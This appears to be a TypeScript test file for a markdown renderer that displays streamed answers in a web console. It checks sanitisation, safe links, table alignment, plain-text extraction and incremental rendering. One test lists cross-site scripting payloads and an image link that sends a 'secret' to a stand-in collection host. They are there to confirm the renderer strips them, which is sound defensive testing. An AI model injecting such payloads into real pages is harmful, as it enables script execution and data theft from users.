import fc from 'fast-check'
import { describe, expect, it } from 'vitest'
import {
  createMarkdownStream,
  plainText,
  renderMarkdown,
} from '#web/components/markdown/markdown.ts'
import { ANSWER } from '../helpers/scripted-data.ts'

const html = (source: string) =>
  renderMarkdown(source)
    .map((block) => (block.kind === 'html' ? block.html : `<code>${block.source}</code>`))
    .join('')

describe('the markdown of an answer', () => {
  it('never carries markup of its own into the page', () => {
    const attacks = [
      '<script>alert(1)</script>',
      '<img src=x onerror=alert(1)>',
      '[click](javascript:alert(1))',
      '[click](data:text/html,<script>alert(1)</script>)',
      '![pixel](https://collect.example/?q=secret)',
      '<svg onload=alert(1)>',
    ]
    for (const attack of attacks) {
      const page = document.createElement('div')
      page.innerHTML = html(attack)
      expect(page.querySelector('script, img, svg, iframe')).toBeNull()
      for (const link of page.querySelectorAll('a[href]')) {
        expect(link.getAttribute('href')).toMatch(/^(?:https?|mailto):/)
      }
    }
  })

  it('opens links away from the console', () => {
    expect(html('[docs](https://example.com)')).toContain('rel="noopener noreferrer"')
  })

  it('gives code to its own component, with its language', () => {
    expect(renderMarkdown('```ts\nconst a = 1\n```')).toEqual([
      { kind: 'code', language: 'ts', source: 'const a = 1' },
    ])
  })

  it('aligns table columns without inline styles', () => {
    const table = html('| a | b |\n| --- | ---: |\n| 1 | 2 |')
    expect(table).toContain('class="align-right"')
    expect(table).not.toContain('style=')
  })

  it('resolves a link whose target comes at the very end', () => {
    expect(html('See [the page][1].\n\nMore.\n\n[1]: https://example.com/page')).toContain(
      'https://example.com/page',
    )
  })
})

describe('the words of an answer', () => {
  it('come without the signs of its markup, a line for each part', () => {
    const source = [
      '## All **systems**',
      '> _nominal_, see [the log](https://example.com)',
      '- one\n- `two`',
      '| a | b |\n| --- | --- |\n| 1 | 2 |',
      '```ts\nconst a = 2 * 3\n```',
      'Line\nbroken',
    ].join('\n\n')
    expect(plainText(source).split('\n')).toEqual([
      'All systems',
      'nominal, see the log',
      'one',
      'two',
      'a',
      'b',
      '1',
      '2',
      'const a = 2 * 3',
      'Line broken',
    ])
  })
})

describe('an answer that grows', () => {
  it('ends up as the blocks of the whole, however it was cut', () => {
    fc.assert(
      fc.property(fc.array(fc.integer({ min: 1, max: 40 }), { minLength: 1 }), (steps) => {
        const update = createMarkdownStream()
        let end = 0
        for (let step = 0; end < ANSWER.length; step++) {
          end += steps[step % steps.length] ?? 1
          update(ANSWER.slice(0, end))
        }
        const { frozen, tail } = update(ANSWER)
        expect([...frozen, ...tail]).toEqual(renderMarkdown(ANSWER))
      }),
      { numRuns: 30 },
    )
  })

  it('keeps finished blocks as they are while the last one grows', () => {
    const update = createMarkdownStream()
    const before = update('First.\n\nSecond.\n\nThi').frozen
    const after = update('First.\n\nSecond.\n\nThird').frozen
    expect(after).toHaveLength(2)
    expect(after[0]).toBe(before[0])
  })

  it('starts over when the text is another one', () => {
    const update = createMarkdownStream()
    update('A dead attempt.\n\nwrote this')
    const { frozen, tail } = update('A new one.')
    expect([...frozen, ...tail]).toEqual(renderMarkdown('A new one.'))
  })
})
